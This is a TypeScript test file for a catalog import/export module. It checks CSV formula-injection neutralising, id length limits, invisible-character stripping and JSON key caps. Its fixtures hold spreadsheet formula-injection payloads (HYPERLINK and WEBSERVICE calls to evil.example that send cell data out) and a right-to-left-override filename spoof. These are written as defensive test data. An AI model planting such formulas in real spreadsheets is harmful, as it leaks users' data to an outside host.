/** Hostile files an admin found: each one fixed, each one here. */
import { describe, expect, it } from 'vitest';
import { parseCatalog } from '../../../src/catalog/parse.js';
import { catalogCsvExport, catalogToCsv } from '../../../src/catalog/serialise.js';
import { neutralise, unneutralise } from '../../../src/catalog/formula.js';
import { cleanLine } from '../../../src/catalog/text.js';
import type { CatalogItem } from '../../../src/domain/item.js';

const enc = (s: string) => new TextEncoder().encode(s);
const dec = (b: string) => b.replace(/^\ufeff/, '');

describe('CSV export: formula injection', () => {
  const risky: CatalogItem[] = [
    { id: 'f1', title: '=HYPERLINK("http://evil.example/?"&A1,"Click")', description: '=WEBSERVICE("http://evil.example/")' },
    { id: 'f2', title: '+1+1', tags: ['@SUM(1)', 'drama'] },
    { id: 'f3', title: '-2+3', extra: { note: '@mention', plain: 'fine' } },
    { id: '=f4', title: "'=already quoted by hand" },
    { id: 'f5', title: "'just a quote", description: "'quoted' words, and a = b inside" },
    { id: 'f6', title: 'Heat', year: 1995 },
  ];

  it('GIVEN cells starting with =, +, -, @ THEN each is written with a leading quote and counted', () => {
    const { csv, neutralised } = catalogCsvExport(risky);
    const lines = dec(csv).split('\r\n');
    expect(lines[1]).toBe(`f1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",,"'=WEBSERVICE(""http://evil.example/"")",,,,,`);
    expect(lines[2]).toMatch(/^f2,'\+1\+1,,,/);
    expect(lines[4].startsWith("'=f4,''=already quoted by hand,")).toBe(true);
    // f1 title and description, f2 title and tags (one cell), f3 title and note, f4 id and title
    expect(neutralised).toBe(8);
    // No cell of the file starts with a formula character any more.
    const cells = lines.flatMap((l) => l.split(',')).map((c) => c.replace(/^"/, ''));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('GIVEN an exported file uploaded again THEN every text comes back exactly as it was', () => {
    const back = parseCatalog(enc(catalogToCsv(risky)), { filename: 'catalog.csv' });
    expect(back.errors).toEqual([]);
    expect(back.items.map((i) => [i.id, i.title, i.description, i.tags, i.extra?.note])).toEqual(risky.map((i) => [i.id, i.title, i.description, i.tags, i.extra?.note]));
  });

  it.each([['=1'], ["'=1"], ["''+x"], ["'plain"], ['-'], ['\tx'], ['\rx'], [''], ['@'], ["'"], ['a=b']])(
    'GIVEN %j THEN unneutralise(neutralise(v)) is v',
    (v) => expect(unneutralise(neutralise(v))).toBe(v),
  );

  it('GIVEN a catalog with no risky cell THEN nothing is counted or changed', () => {
    const { csv, neutralised } = catalogCsvExport([{ id: 'a', title: 'Heat', year: 1995 }]);
    expect(neutralised).toBe(0);
    expect(dec(csv)).toBe('id,title,year,description,tags,url,image_url\r\na,Heat,1995,,,,\r\n');
  });
});

describe('upload: item ids', () => {
  it('GIVEN a 300-character id THEN that row is rejected, naming its spreadsheet row, line and the 64 limit; a 64-character id is kept', () => {
    const long = 'x'.repeat(300);
    const ok = 'y'.repeat(64);
    const r = parseCatalog(enc(`id,title\n${ok},Fine\n${long},Too Long\nz,Other\n`));
    expect(r.items.map((i) => i.id)).toEqual([ok, 'z']);
    expect(r.errors).toHaveLength(1);
    expect(r.errors[0]).toMatchObject({ row: 3, line: 3, column: 'id', code: 'row.id-too-long' });
    expect(r.errors[0].message).toContain("Row 3 (line 3), column 'id': the id is 300 characters long; the limit is 64");
  });
});

describe('upload: invisible characters', () => {
  it.each([
    ['a family emoji (zero-width joiners)', 'Family 👨\u200d👩\u200d👧 Night', 'Family 👨\u200d👩\u200d👧 Night'],
    ['a heart with its emoji variation selector', 'I \u2764\ufe0f NY', 'I \u2764\ufe0f NY'],
    ['the flag of England (tag sequence)', 'Go \u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}', 'Go \u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}'],
    ['a right-to-left override', 'Good\u202efdp.exe', 'Goodfdp.exe'],
    ['isolates, zero-width space, word joiner, BOM', 'A\u2066B\u2069\u200bC\u2060D\ufeffE', 'ABCDE'],
    ['hidden tag letters (text smuggling)', 'Nice\u{E0049}\u{E0047}\u{E004E} film', 'Nice film'],
    ['a soft hyphen', 'Dis\u00adcreet', 'Discreet'],
  ])('GIVEN %s THEN the title reads %j', (_what, input, want) => {
    expect(cleanLine(input).value).toBe(want);
    expect(parseCatalog(enc(`title\n${input}\n`)).items[0]?.title).toBe(want);
  });
});

describe('upload: JSON keys beyond what is kept', () => {
  it('GIVEN an item with 100,000 keys THEN it is kept with 20 extra fields and one warning gives the count and the first names', () => {
    const wide: Record<string, unknown> = { title: 'Wide' };
    for (let k = 0; k < 100_000; k++) wide[`k${k}`] = k;
    const r = parseCatalog(enc(JSON.stringify([wide, { title: 'Narrow', genre: 'drama' }])), { filename: 'x.json' });
    expect(r.items.map((i) => i.title)).toEqual(['Wide', 'Narrow']);
    expect(Object.keys(r.items[0].extra ?? {})).toHaveLength(20);
    expect(r.warnings).toEqual([
      { row: 1, code: 'json.ignored-keys', message: "Item 1: 99,980 keys were ignored ('k20', 'k21', 'k22', 'k23', 'k24', …); only 20 extra fields with different names are kept per item." },
    ]);
  });
});

describe('upload: row numbers as a spreadsheet shows them', () => {
  it('GIVEN a quoted value over two lines and a blank line THEN errors name the spreadsheet row and the line the row starts on', () => {
    const text = 'title,year\n"Two\nLines",1999\n\nOdd,19x5\nFine,2001\n';
    const r = parseCatalog(enc(text));
    expect(r.items.map((i) => i.title)).toEqual(['Two Lines', 'Fine']);
    expect(r.errors).toMatchObject([{ row: 4, line: 5, column: 'year', code: 'row.bad-year' }]);
    expect(r.errors[0].message).toMatch(/^Row 4 \(line 5\), column 'year'/);
  });

  it('GIVEN a plain file THEN the first data row is row 2, as in a spreadsheet', () => {
    const r = parseCatalog(enc('title,year\nHeat,19x5\n'));
    expect(r.errors[0]).toMatchObject({ row: 2, line: 2 });
  });
});
